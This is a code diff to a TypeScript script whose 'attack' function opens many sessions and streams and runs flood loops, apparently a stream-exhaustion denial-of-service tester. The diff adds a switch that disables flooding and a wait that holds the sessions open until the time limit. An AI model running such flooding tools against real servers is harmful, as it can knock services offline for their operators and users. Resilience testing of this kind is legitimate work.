@@ -29,6 +29,7 @@ const { positionals, values } = parseArgs({
     seconds: { type: 'string', default: '10' },
     streams: { type: 'string', default: '20000' },
     url: { type: 'string', default: '' },
+    flood: { type: 'string', default: '1' },
   },
 });
 
@@ -99,7 +100,7 @@ async function attack(): Promise<unknown> {
     }
   };
   const floods: Promise<void>[] = [];
-  for (let c = 0; c < 4; c++) {
+  for (let c = 0; c < (values.flood === '0' ? 0 : 4); c++) {
     const s = connect();
     for (let i = 0; i < 8; i++) floods.push(flood(s));
   }
@@ -121,6 +122,7 @@ async function attack(): Promise<unknown> {
     }
   }
   await Promise.all(floods);
+  while (Date.now() < end) await new Promise((r) => setTimeout(r, 200));
   for (const s of sessions) s.destroy();
   return { statuses: Object.fromEntries(statuses), idleStreamsAttempted: opened };
 }
